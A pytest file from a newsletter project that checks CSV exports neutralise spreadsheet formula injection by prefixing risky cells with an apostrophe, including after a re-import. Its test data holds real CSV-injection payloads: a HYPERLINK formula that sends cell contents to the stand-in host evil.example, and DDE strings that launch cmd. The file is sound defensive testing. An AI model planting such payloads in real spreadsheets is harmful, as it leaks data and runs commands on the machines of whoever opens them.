"""CSV export safe in spreadsheets (issue 16, item 6; OWASP "CSV Injection"): a cell that
starts with ``=``, ``+``, ``-``, ``@``, tab or CR is exported behind a ``'`` so Excel and
LibreOffice show it as text instead of running it; what is stored is left as typed. An import
takes names literally (it undoes nothing: a quoted name stays quoted); only the address column
drops the guard, so a round trip never invents an address."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from sqlalchemy import Engine

from syndicate.config import PaperConfig, Settings
from syndicate.newsletter.subscriber_csv import export_text, import_csv, safe_cell
from syndicate.newsletter.subscribers import add, list_subscribers

NOW = datetime(2026, 3, 1, 6, 0, tzinfo=UTC)
PAPER = PaperConfig(slug="jngx", name="济宁高新新闻")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"点此领奖")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", [*FORMULAS, "\t=1+1", "\r=1+1"])
def test_a_cell_starting_with_a_formula_character_is_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["张三", "读者 =1", "", "'=already quoted", "a@example.com"])
def test_other_cells_are_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def cells(exported: str) -> dict[str, list[str]]:
    return {
        row["email"]: [row["email"], row["name"]] for row in csv.DictReader(io.StringIO(exported))
    }


def test_names_from_the_form_are_exported_as_text_and_imports_undo_nothing(
    db: Engine, db_settings: Settings
) -> None:
    for i, name in enumerate(FORMULAS):
        add(db, PAPER, f"r{i}@example.com", name=name, confirmed=False, now=NOW)
    add(db, PAPER, "-dash@example.com", name="张三", confirmed=True, now=NOW)
    exported = export_text(db)
    got = cells(exported)
    for i, name in enumerate(FORMULAS):
        assert got[f"r{i}@example.com"][1] == "'" + name
    assert got["'-dash@example.com"] == ["'-dash@example.com", "张三"]
    for line in exported.splitlines()[1:]:
        assert line[0] not in "=+-@\t\r" and ",=" not in line and ",+" not in line
    stored = {s.email: s.name for s in list_subscribers(db)}
    assert stored["r0@example.com"] == FORMULAS[0]  # the database keeps what was typed

    import_csv(db, db_settings, io.StringIO(exported), now=NOW)
    again = export_text(db)
    for line in again.splitlines()[1:]:  # a round trip never re-arms a formula
        assert line[0] not in "=+-@\t\r" and ",=" not in line and ",+" not in line
    after = {s.email: s.name for s in list_subscribers(db)}
    assert after["r0@example.com"] == "'" + FORMULAS[0]
    assert sorted(after) == sorted(stored)  # the same addresses, none invented
